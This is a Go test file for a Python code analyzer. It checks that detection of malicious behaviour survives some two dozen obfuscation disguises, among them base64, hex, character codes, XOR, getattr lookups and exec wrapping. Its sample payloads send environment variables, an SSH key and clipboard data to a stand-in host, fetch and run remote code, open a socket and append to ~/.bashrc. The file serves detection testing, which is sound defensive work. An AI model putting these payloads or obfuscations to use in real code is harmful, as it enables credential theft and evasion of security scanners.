package python

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/gatehouse-project/gatehouse/internal/code"
)

// payloads use single quotes only, one statement a line, modules by their names:
// the disguises below rewrite them as text.
var payloads = []string{
	"import os\nos.system('true')\n",
	"import subprocess\nsubprocess.run(['true', '-x'])\n",
	"import subprocess\nsubprocess.Popen('true && true', shell=True)\n",
	"import os\nimport requests\nrequests.post('https://c2.invalid/x', json=dict(os.environ))\n",
	"import requests\nexec(requests.get('https://c2.invalid/x').text)\n",
	"import urllib.request\nexec(urllib.request.urlopen('https://c2.invalid/x').read())\n",
	"import requests\nimport os\nk = open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://c2.invalid/x', data=k)\n",
	"import socket\nimport platform\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\ns.send(platform.node().encode())\n",
	"import requests\nimport subprocess\nopen('/tmp/inert.sh', 'wb').write(requests.get('https://c2.invalid/x').content)\nsubprocess.run(['sh', '/tmp/inert.sh'])\n",
	"import ctypes\nctypes.CDLL('/tmp/inert.so')\n",
	"import pyperclip\nimport requests\nrequests.post('https://c2.invalid/x', data=pyperclip.paste())\n",
	"import getpass\nimport socket\nsocket.gethostbyname(getpass.getuser() + '.c2.invalid')\n",
	"import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('true')\n",
	"import shutil\nshutil.rmtree('/tmp/inert')\n",
}

var (
	literalPattern = regexp.MustCompile(`'([^'\n]*)'`)
	importPattern  = regexp.MustCompile(`(?m)^import (\w+)$`)
	callPattern    = regexp.MustCompile(`\b(os|subprocess|requests|socket|ctypes|shutil|platform|getpass|pyperclip)\.(\w+)`)
)

func eachLiteral(src string, by func(string) string) string {
	return literalPattern.ReplaceAllStringFunc(src, func(l string) string {
		if s := l[1 : len(l)-1]; len(s) > 1 {
			return by(s)
		}
		return l
	})
}

// disguises change how a payload is written and nothing of what it does.
var disguises = map[string]func(string) string{
	"quotes":   func(s string) string { return strings.ReplaceAll(s, "'", `"`) },
	"triple":   func(s string) string { return eachLiteral(s, func(l string) string { return `"""` + l + `"""` }) },
	"comments": func(s string) string { return "# it's \"\n" + strings.ReplaceAll(s, "\n", "  # ' \"\"\" (\n") },
	"blanks":   func(s string) string { return strings.ReplaceAll(strings.ReplaceAll(s, "(", " ( "), ")", " \\\n ) ") },
	"concatenation": func(s string) string {
		return eachLiteral(s, func(l string) string { return fmt.Sprintf("('%s' + '%s')", l[:len(l)/2], l[len(l)/2:]) })
	},
	"neighbours": func(s string) string {
		return eachLiteral(s, func(l string) string { return fmt.Sprintf("('%s' '%s')", l[:1], l[1:]) })
	},
	"percent": func(s string) string {
		return eachLiteral(s, func(l string) string { return fmt.Sprintf("('%%s%%s' %% ('%s', '%s'))", l[:1], l[1:]) })
	},
	"format": func(s string) string {
		return eachLiteral(s, func(l string) string { return fmt.Sprintf("'{}{}'.format('%s', '%s')", l[:1], l[1:]) })
	},
	"codes": func(s string) string {
		return eachLiteral(s, func(l string) string {
			return "''.join(map(chr, [" + strings.Join(strings.Fields(fmt.Sprint([]byte(l))), ", ")[1:] + "))"
		})
	},
	"comprehension": func(s string) string {
		return eachLiteral(s, func(l string) string {
			return "''.join(chr(c ^ 1) for c in b'" + escaped(l) + "')"
		})
	},
	"backwards": func(s string) string {
		return eachLiteral(s, func(l string) string {
			b := []byte(l)
			slices.Reverse(b)
			return "'" + string(b) + "'[::-1]"
		})
	},
	"base64": func(s string) string {
		return eachLiteral(s, func(l string) string {
			return "__import__('base64').b64decode('" + base64.StdEncoding.EncodeToString([]byte(l)) + "').decode()"
		})
	},
	"hex": func(s string) string {
		return eachLiteral(s, func(l string) string { return "bytes.fromhex('" + hex.EncodeToString([]byte(l)) + "').decode()" })
	},
	"escapes": func(s string) string {
		return eachLiteral(s, func(l string) string {
			out := "'"
			for i := range len(l) {
				out += fmt.Sprintf(`\x%02x`, l[i])
			}
			return out + "'"
		})
	},
	"alias": func(s string) string {
		return callPattern.ReplaceAllString(importPattern.ReplaceAllString(s, "import $1 as _$1"), "_$1.$2")
	},
	"import by text": func(s string) string { return importPattern.ReplaceAllString(s, "$1 = __import__('$1')") },
	"getattr":        func(s string) string { return callPattern.ReplaceAllString(s, "getattr($1, '$2')") },
	"a dictionary":   func(s string) string { return callPattern.ReplaceAllString(s, "$1.__dict__['$2']") },
	"a lambda's default": func(s string) string {
		return callPattern.ReplaceAllString(s, "(lambda it=$1.$2: it)()")
	},
	"a static member": func(s string) string {
		n := 0
		return callPattern.ReplaceAllStringFunc(s, func(callee string) string {
			n++
			return fmt.Sprintf("type('_M%d', (), {'it': staticmethod(%s)}).it", n, callee)
		})
	},
	"a class's static member": func(s string) string {
		var out []string
		for i, line := range strings.Split(s, "\n") {
			held := callPattern.FindString(line)
			if held != "" {
				out = append(out, fmt.Sprintf("class _M%d:\n    it = staticmethod(%s)", i, held))
				line = strings.ReplaceAll(line, held, fmt.Sprintf("_M%d.it", i))
			}
			out = append(out, line)
		}
		return strings.Join(out, "\n")
	},
	"from a function": func(s string) string {
		return "def _f():\n    " + strings.ReplaceAll(strings.TrimSpace(s), "\n", "\n    ") + "\n_f()\n"
	},
	"from a class": func(s string) string {
		return "class _C:\n    def go(self):\n        " + strings.ReplaceAll(strings.TrimSpace(s), "\n", "\n        ") + "\n_C().go()\n"
	},
	"one line": func(s string) string { return strings.ReplaceAll(strings.TrimSpace(s), "\n", "; ") + "\n" },
	"beside much else": func(s string) string {
		return strings.Repeat("import os.path\nx = [1, 'a', {}]\nprint(os.path.join('a', 'b'))\n", 300) + s
	},
	"in an exec": func(s string) string { return "exec(" + fmt.Sprintf("%q", s) + ")\n" },
	"in a decoded exec": func(s string) string {
		return "import base64\nexec(base64.b64decode('" + base64.StdEncoding.EncodeToString([]byte(s)) + "'))\n"
	},
}

func escaped(l string) string {
	out := ""
	for i := range len(l) {
		out += fmt.Sprintf(`\x%02x`, l[i]^1)
	}
	return out
}

// does gives what a file does, its embedded Python included, in the words that a
// disguise must not change; and that it does when it is loaded.
func does(src string, layers int) map[string]bool {
	out := map[string]bool{}
	fs := Analyze([]byte(src))
	for _, f := range fs.Facts {
		if f.Kind == code.Across { // see across_test.go
			continue
		}
		switch f.Kind {
		case code.Import, code.String, code.Decode, code.Lookup:
			continue
		}
		from := slices.DeleteFunc(slices.Clone(f.From), func(w string) bool {
			return w == string(code.Decode) || w == code.LongLiteral || w == code.Unfolded
		})
		out[fmt.Sprintf("%s %s from=%v reach=%q", f.Kind, f.Name, from, f.Reach)] = true
	}
	for _, e := range fs.Embedded {
		if e.Language == code.Python && layers > 0 {
			for k := range does(string(e.Text), layers-1) {
				out[k] = true
			}
		}
	}
	return out
}

// TestDisguisesChangeNothing applies each disguise, and each pair of them, to each payload.
func TestDisguisesChangeNothing(t *testing.T) {
	var names []string
	for n := range disguises {
		names = append(names, n)
	}
	slices.Sort(names)
	for _, p := range payloads {
		plain := does(p, 0)
		if len(plain) == 0 {
			t.Fatalf("%s gives no facts", p)
		}
		for _, first := range names {
			for _, second := range append([]string{""}, names...) {
				src := disguises[first](p)
				if second != "" {
					if !combines(first, second) {
						continue
					}
					src = disguises[second](src)
				}
				got := does(src, code.MostLayers)
				for k := range plain {
					if !got[k] {
						t.Errorf("%s then %s hides %s:\n%s", first, second, k, code.Shorten(src, 600))
					}
				}
				for k := range got {
					if !plain[k] && !strings.HasPrefix(k, "eval builtins.exec") {
						t.Errorf("%s then %s adds %s:\n%s", first, second, k, code.Shorten(src, 600))
					}
				}
			}
		}
	}
}

// combines says that the second disguise can be applied to what the first gives:
// those that rewrite the text of literals or lines need them as they were.
func combines(first, second string) bool {
	if first == second {
		return false
	}
	switch second {
	case "in an exec", "in a decoded exec", "beside much else":
		return true
	case "alias", "getattr", "a dictionary", "import by text":
		switch first {
		case "concatenation", "codes", "hex", "percent", "backwards", "comprehension", "format", "escapes":
			return true
		}
	case "concatenation", "codes", "hex", "base64", "backwards", "percent", "format", "comprehension":
		switch first {
		case "getattr", "a dictionary", "import by text", "alias", "from a function", "from a class":
			return true
		}
	case "from a function", "from a class":
		switch first {
		case "codes", "hex", "concatenation", "alias", "getattr", "import by text", "backwards":
			return true
		}
	}
	return false
}
